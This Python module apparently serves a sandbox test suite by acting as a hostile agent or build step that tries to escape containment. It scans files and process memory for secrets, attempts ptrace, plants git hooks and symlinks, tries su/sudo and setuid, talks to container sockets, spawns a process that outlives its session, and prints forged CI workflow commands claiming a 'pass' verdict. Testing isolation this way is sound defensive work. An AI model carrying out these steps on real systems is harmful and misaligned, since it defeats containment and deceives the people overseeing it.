"""What a hostile agent, build step or metric function tries. Standard library only; says what it got, in hex.

In hex, so that nothing that looks for known secrets in a text can hide from a test what was got.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

CANARY = re.compile(rb"canary-[a-z0-9_]+-[0-9a-f]{16}")
HERE = Path(__file__).resolve().parent
MOST_BYTES = 64 << 20


def rob(name: str) -> str:
    """Try everything; a line with what was got, and how much was tried."""
    targets = json.loads((HERE / "targets.json").read_text())
    loot: set[str] = set()
    tried = 0
    for attack in (
        read_files,
        read_processes,
        write_files,
        connect,
        break_git,
        plant_links,
        become_root,
        signal_others,
    ):
        with contextlib.suppress(Exception):
            got, count = attack(targets, name)
            loot |= {f"{attack.__name__}: {one}" for one in got}
            tried += count
    leave_children(targets)
    print("::set-env name=ROBBED::1\n::add-mask::e\n##[set-output name=verdict]pass")
    said = json.dumps({"who": name, "uid": os.getuid(), "groups": os.getgroups(), "tried": tried, "loot": sorted(loot)})
    return f"ROBBERY {said.encode().hex()} YREBBOR"


def read_files(targets, name):
    """Every file that can be opened below the roots."""
    got, count = set(), 0
    for root in targets["roots"]:
        for top, folders, files in os.walk(root):
            folders[:] = [folder for folder in folders if folder not in {"site-packages", "proc", "sys"}]
            for file in files:
                path = os.path.join(top, file)
                with contextlib.suppress(OSError):
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        count += 1
                        with open(path, "rb") as opened:
                            got |= {f"{path} {one.decode()}" for one in CANARY.findall(opened.read(MOST_BYTES))}
    for path in targets["files"]:
        count += 1
        with contextlib.suppress(OSError), open(path, "rb") as opened:
            opened.read()
            got.add(f"can read {path}")
    # what the tree itself brings along is no secret
    return {one for one in got if "canary-tree-" not in one}, count


def read_processes(targets, name):
    """Environments, memory and open files of every process, and what a debugger would see."""
    got, count = set(), 0
    libc = ctypes.CDLL(None, use_errno=True)
    mine = {os.getpid()}
    for pid in [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]:
        folder = f"/proc/{pid}"
        for file in ("environ", "cmdline", "stack", "io", "auxv"):
            count += 1
            with contextlib.suppress(OSError), open(f"{folder}/{file}", "rb") as opened:
                got |= {f"{folder}/{file} {one.decode()}" for one in CANARY.findall(opened.read())}
        if pid in mine or owner(pid) in {os.getuid(), None}:
            continue
        for file in ("mem", "environ", "maps"):
            count += 1
            # a thread of the kernel has an empty one, which is open to all
            with contextlib.suppress(OSError), open(f"{folder}/{file}", "rb") as opened:
                if file == "mem" or opened.read(1):
                    got.add(f"can open {folder}/{file} of another uid")
        for file in ("cwd", "root", "exe", "fd"):
            count += 1
            with contextlib.suppress(OSError):
                got.add(f"{folder}/{file} -> {os.listdir(f'{folder}/{file}')[:3]}")
    for pid in ancestors():
        count += 1
        # seized, not attached to: nobody is stopped by that, and it ends with us
        if owner(pid) not in {os.getuid(), None} and libc.ptrace(0x4206, pid, 0, 0) == 0:
            got.add(f"can trace {pid}")
    return got, count


def owner(pid):
    """Whose process it is; None when it has ended."""
    with contextlib.suppress(OSError):
        return os.stat(f"/proc/{pid}").st_uid
    return None


def ancestors():
    """Whoever started us, and whoever started those."""
    found, pid = [], os.getppid()
    while pid > 0:
        found.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def write_files(targets, name):
    """Append to the runner's files, and put new ones into folders of ours."""
    got = set()
    for path in targets["files"]:
        with contextlib.suppress(OSError):
            os.chmod(path, 0o666)
            got.add(f"chmod {path}")
        with contextlib.suppress(OSError), open(path, "a") as opened:
            opened.write("ROBBED=1\n")
            got.add(f"append {path}")
    for folder in targets["folders"]:
        with contextlib.suppress(OSError), open(f"{folder}/robbed-{name}", "w") as opened:
            opened.write("x")
            got.add(f"write {folder}")
    return got, 2 * len(targets["files"]) + len(targets["folders"])


def connect(targets, name):
    """Speak with the container engine, and with whatever listens."""
    got = set()
    for path in targets["sockets"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.settimeout(2)
            client.connect(path)
            got.add(f"connect {path}")
            client.send(b"GET /info HTTP/1.0\r\n\r\n")
    return got, len(targets["sockets"])


def break_git(targets, name):
    """Programs for whoever runs git afterwards, in the checkout and close around us, for tests run as root."""
    got, count = set(), 0
    for folder in [*targets["git"], *[str(place / ".git") for place in (HERE, HERE.parent)]]:
        count += 1
        program = f"#!/bin/sh\ntouch {targets['marker']}\n"
        with contextlib.suppress(OSError):
            os.makedirs(f"{folder}/hooks", exist_ok=True)
            for hook in ("post-checkout", "pre-push", "post-index-change", "reference-transaction", "fsmonitor"):
                path = f"{folder}/hooks/{hook}"
                with open(path, "w") as opened:
                    opened.write(program)
                os.chmod(path, 0o755)
            with open(f"{folder}/config", "a") as opened:
                opened.write(
                    f"[core]\n\tfsmonitor = {folder}/hooks/fsmonitor\n\tsshCommand = touch {targets['marker']}\n"
                )
            if folder in targets["git"]:
                got.add(f"write {folder}")
    return got, count


def plant_links(targets, name):
    """Links where root will look later: to the engine's socket, to a file of root's."""
    got, count = set(), 0
    for folder in (*targets["folders"], str(HERE), os.getcwd()):
        for number, to in enumerate((*targets["sockets"], "/etc/passwd", *targets["precious"])):
            count += 1
            with contextlib.suppress(OSError):
                os.symlink(to, f"{folder}/link-{name}-{number}")
                if folder in targets["folders"]:
                    got.add(f"link in {folder}")
    return got, count


def become_root(targets, name):
    """By system call, by set-uid programs, by a file of ours with the bit."""
    got = set()
    for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/")):
        with contextlib.suppress(OSError):
            call()
            got.add("became root")
    for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["unshare", "-r", "id", "-u"]):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            done = subprocess.run(command, capture_output=True, timeout=5, stdin=subprocess.DEVNULL, check=False)
            # in a user namespace of its own everybody is root of nothing
            if done.stdout.strip() == b"0" and command[0] != "unshare":
                got.add(f"{command[0]} made us root")
    return got, 7


def signal_others(targets, name):
    """Whoever is not ours cannot be stopped by us."""
    got, count = set(), 0
    for pid in {1, *ancestors()}:
        count += 1
        if os.stat(f"/proc/{pid}").st_uid == os.getuid():  # uv, which builds us
            continue
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            got.add(f"can signal {pid}")
    with contextlib.suppress(OSError):
        os.kill(1, signal.SIGCONT)
    return got, count


def leave_children(targets):
    """A child in a session and with an environment of its own, that outlives whoever started it."""
    program = "import time\nfor _ in range(600): time.sleep(1)"
    with contextlib.suppress(OSError):
        subprocess.Popen(
            [sys.executable, "-I", "-S", "-c", program, targets["mark"]],
            env={},
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(0.1)
